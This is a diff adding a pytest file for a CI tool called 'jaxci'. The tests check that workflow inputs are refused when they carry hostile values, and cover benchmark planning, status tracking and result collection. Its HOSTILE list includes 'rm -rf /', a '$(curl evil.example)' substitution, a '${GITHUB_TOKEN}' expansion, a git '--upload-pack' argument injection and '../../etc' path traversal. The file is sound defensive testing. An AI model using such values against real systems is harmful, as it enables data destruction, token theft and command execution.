@@ -1,0 +1,240 @@
+"""jaxci inputs: hostile workflow inputs are refused before any label or command is built; the plan takes its
+families, labels, spot use and timeouts from the catalogue; suite status and collection report what happened."""
+
+import json
+import re
+import subprocess
+import sys
+
+import pytest
+
+from jaxci.catalogue import catalogue_defaults, load_catalogue
+from jaxci.jobcost import timeout_minutes
+from jaxci.workflow_inputs import (
+    InputError,
+    collect,
+    family_outcome,
+    plan,
+    status_end,
+    status_finish,
+    status_init,
+    status_start,
+    suite_regex,
+    suites,
+    upgrade_plan,
+    validate_commits,
+    validate_families,
+    validate_filter,
+)
+
+CATALOGUE = load_catalogue()
+DEFAULTS = catalogue_defaults()
+SHA = "0123456789abcdef0123456789abcdef01234567"
+
+# (input, hostile value): every one must be refused, with the input named in the message.
+HOSTILE = [
+    ("families", "g4dn.2xlarge;rm -rf /"),
+    ("families", "$(curl evil.example)"),
+    ("families", "`id`"),
+    ("families", "g4dn.2xlarge\nc7i.2xlarge"),
+    ("families", "p5.48xlarge"),
+    ("families", "g4dn.2xlarge/spot=true"),
+    ("families", "g4dn.2xlarge/image=attacker-ami"),
+    ("bench", "$(id)"),
+    ("bench", "${GITHUB_TOKEN}"),
+    ("bench", "dense; curl x"),
+    ("bench", "dense`id`"),
+    ("bench", "dense\nloops"),
+    ("bench", "dense loops"),
+    ("bench", "--help"),
+    ("bench", "-x"),
+    ("bench", "dense&&id"),
+    ("bench", "dense>out"),
+    ("bench", "dense'"),
+    ("bench", 'dense"'),
+    ("bench", "dense(("),
+    ("bench", "a" * 201),
+    ("commits", "$(id)"),
+    ("commits", "main;id"),
+    ("commits", "`id`"),
+    ("commits", "main\nid"),
+    ("commits", "--upload-pack=touch /tmp/x"),
+    ("commits", "-q"),
+    ("commits", "main..evil"),
+    ("commits", "HEAD@{1}"),
+    ("commits", "refs/heads/x.lock"),
+    ("commits", " ".join(["HEAD"] * 11)),
+    ("scale", "full; id"),
+    ("scale", "huge"),
+]
+
+
+def _plan(**kw):
+    args = dict(families="", scale="full", bench="", commits="", run_id="42")
+    args.update(kw)
+    return plan(args["families"], args["scale"], args["bench"], args["commits"], args["run_id"],
+                catalogue=CATALOGUE, defaults=DEFAULTS, suite_names=["dense", "loops"])
+
+
+@pytest.mark.parametrize("name,value", HOSTILE, ids=[f"{n}:{v[:20]!r}" for n, v in HOSTILE])
+def test_hostile_input_is_refused(name, value):
+    with pytest.raises(InputError, match=f"'{name}'"):
+        _plan(**{name: value})
+
+
+@pytest.mark.parametrize("run_id", ["1; id", "$(id)", "12\n3", ""])
+def test_hostile_run_id_is_refused(run_id):
+    with pytest.raises(InputError, match="run id"):
+        _plan(run_id=run_id)
+
+
+def test_cli_refuses_and_writes_no_output(tmp_path):
+    out = tmp_path / "github_output"
+    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "plan", "--families=$(id)", "--run-id=1",
+                           f"--github-output={out}"], capture_output=True, text=True)
+    assert proc.returncode == 2
+    assert "refused" in proc.stderr and "'families'" in proc.stderr
+    assert not out.exists()
+
+
+def test_cli_writes_single_line_outputs(tmp_path):
+    out = tmp_path / "github_output"
+    proc = subprocess.run([sys.executable, "-m", "jaxci", "inputs", "plan", "--families=g4dn.2xlarge,ubuntu-latest",
+                           "--bench=^dispatch.TinyOp", "--commits=HEAD,main", "--scale=ci", "--run-id=77",
+                           f"--github-output={out}"], capture_output=True, text=True)
+    assert proc.returncode == 0, proc.stderr
+    lines = out.read_text().splitlines()
+    outputs = dict(line.split("=", 1) for line in lines)
+    assert set(outputs) == {"matrix", "scale", "publish", "commits", "suite_filters"}
+    matrix = json.loads(outputs["matrix"])
+    assert [e["family"] for e in matrix["include"]] == ["g4dn.2xlarge", "ubuntu-latest"]
+    assert outputs["commits"] == "HEAD main" and outputs["publish"] == "false"
+
+
+def test_plain_inputs_pass():
+    assert validate_families("g4dn.2xlarge, c7i.2xlarge", CATALOGUE) == ["g4dn.2xlarge", "c7i.2xlarge"]
+    assert validate_filter("^loops.(Scan|ForiAccumulate)") == "^loops.(Scan|ForiAccumulate)"
+    assert validate_filter("") is None
+    assert validate_commits("") == ["HEAD"]
+    assert validate_commits("3363320, v0.2.0 main~3 release/2026-11") == ["3363320", "v0.2.0", "main~3",
+                                                                           "release/2026-11"]
+
+
+def test_default_families_are_the_bench_families():
+    p = _plan()
+    assert p.families == [n for n, m in CATALOGUE.items() if m.bench]
+    assert p.families  # the catalogue must have at least one bench family
+
+
+def test_labels_timeouts_and_spot_come_from_the_catalogue():
+    for scale in ("full", "ci"):
+        p = _plan(scale=scale, commits="HEAD main")
+        for entry in p.matrix["include"]:
+            m = CATALOGUE[entry["family"]]
+            assert entry["timeout_minutes"] == timeout_minutes(m, DEFAULTS, runs=2)
+            assert entry["backend"] == m.backend and entry["gpu"] == m.has_gpu
+            if scale == "full":  # published: on-demand always
+                assert entry["spot"] is False
+            else:  # exploratory: spot only where the catalogue allows it
+                assert entry["spot"] is (m.spot == "exploratory")
+            if m.runner == "github":
+                assert entry["runs_on"] == m.image
+            else:
+                assert entry["runs_on"] == (f"runs-on=42/family={m.name}/image={m.image}/"
+                                            f"spot={'true' if entry['spot'] else 'false'}")
+
+
+def test_publish_only_at_full_scale():
+    assert _plan(scale="full").publish is True
+    assert _plan(scale="ci").publish is False
+    assert _plan(scale="").scale == "full"  # a scheduled run has no inputs
+
+
+def test_upgrade_plan_is_on_demand_and_timed_for_two_runs():
+    out = upgrade_plan(SHA, SHA[::-1], "9", catalogue=CATALOGUE, defaults=DEFAULTS)
+    matrix = json.loads(out["matrix"])
+    gpus = [CATALOGUE[e["family"]].has_gpu for e in matrix["include"]]
+    assert sorted(gpus) == [False, True]
+    for e in matrix["include"]:
+        assert e["spot"] is False and e["runs_on"].endswith(("spot=false", "ubuntu-latest"))
+        assert e["timeout_minutes"] == timeout_minutes(CATALOGUE[e["family"]], DEFAULTS, runs=2)
+    for bad in ("main", SHA[:12], SHA + "\n", "$(id)"):
+        with pytest.raises(InputError):
+            upgrade_plan(bad, SHA, "9", catalogue=CATALOGUE, defaults=DEFAULTS)
+
+
+# asv selects a benchmark when re.search(regex, "module.Class.method(params)") matches.
+NAMES = ["dispatch.TinyOp.time_warm('float32', 'cpu')", "dispatch.Transfer.time_transfer('h2d', 1, 'cpu')",
+         "loops.Scan.time_warm(1000, 1, 'float32', 'cpu')", "dense.Dense.time_warm('matmul', 64, 'float32', 'cpu')"]
+
+
+@pytest.mark.parametrize("bench,suite,expected", [
+    (None, "dispatch", NAMES[:2]),
+    ("^dispatch.TinyOp", "dispatch", NAMES[:1]),
+    ("^dispatch.TinyOp", "loops", []),
+    ("TinyOp|Scan", "loops", NAMES[2:3]),
+    ("TinyOp|Scan", "dispatch", NAMES[:1]),
+    ("float32', 'cpu'[)]$", "dense", NAMES[3:]),
+])
+def test_suite_regex_is_suite_and_filter(bench, suite, expected):
+    regex = suite_regex(suite, bench)
+    assert [n for n in NAMES if re.search(regex, n)] == expected
+
+
+def test_suites_are_the_benchmark_modules():
+    names = suites()
+    assert {"dense", "dispatch", "loops"} <= set(names) and "common" not in names
+
+
+def test_status_records_the_interrupted_suite(tmp_path):
+    path = tmp_path / "s.json"
+    status_init(path, "g4dn.2xlarge", spot=True)
+    status_start(path, "dense")
+    status_end(path, "dense", 0)
+    status_start(path, "loops")  # the job is cancelled here (timeout, or the user)
+    status = status_finish(path)
+    assert status["suites"] == {"dense": "ok", "loops": status["suites"]["loops"]}
+    assert status["suites"]["loops"].startswith("interrupted")
+    assert family_outcome({"spot": True}, status)[0] == "interrupted"
+
+
+def test_status_distinguishes_failure_from_no_selection(tmp_path):
+    path = tmp_path / "s.json"
+    status_init(path, "c7i.2xlarge", spot=False)
+    status_end(path, "dense", 1, log="· No benchmarks selected")
+    status_end(path, "loops", 2)
+    status_end(path, "dispatch", 1, log="Traceback ...")
+    suites_ = status_finish(path)["suites"]
+    assert suites_["dense"].startswith("not selected")
+    assert suites_["loops"].startswith("completed")
+    assert suites_["dispatch"].startswith("failed")
+    assert family_outcome({"spot": False}, status_finish(path))[0] == "failed"
+
+
+def test_lost_runner_is_a_spot_interruption_only_on_spot():
+    assert family_outcome({"spot": True}, None)[0] == "spot interruption"
+    assert family_outcome({"spot": False}, None)[0] == "runner lost"
+
+
+def test_collect_merges_what_came_back_and_reports_the_rest(tmp_path):
+    incoming, results = tmp_path / "incoming", tmp_path / "results"
+    ok = incoming / "results-c7i.2xlarge"
+    (ok / "results" / "c7i.2xlarge").mkdir(parents=True)
+    (ok / "results" / "c7i.2xlarge" / "abc-virtualenv.json").write_text("{}")
+    (ok / "results" / "c7i.2xlarge" / "machine.json").write_text("{}")
+    (ok / "results" / "benchmarks.json").write_text('{"version": 2}')
+    status_init(ok / "run-status" / "c7i.2xlarge.json", "c7i.2xlarge", spot=False)
+    status_end(ok / "run-status" / "c7i.2xlarge.json", "dense", 0)
+    status_finish(ok / "run-status" / "c7i.2xlarge.json")
+    results.mkdir()
+    matrix = {"include": [{"family": "c7i.2xlarge", "spot": False}, {"family": "g4dn.2xlarge", "spot": True}]}
+    rows = collect(matrix, incoming, results, CATALOGUE)
+    assert [(r["family"], r["outcome"], r["results_merged"]) for r in rows] == [
+        ("c7i.2xlarge", "complete", True), ("g4dn.2xlarge", "spot interruption", False)]
+    assert (results / "c7i.2xlarge" / "abc-virtualenv.json").is_file()
+    assert (results / "benchmarks.json").is_file() and not (results / "g4dn.2xlarge").exists()
+
+
+def test_collect_refuses_a_family_outside_the_catalogue(tmp_path):
+    with pytest.raises(InputError):
+        collect({"include": [{"family": "../../etc"}]}, tmp_path, tmp_path / "results", CATALOGUE)
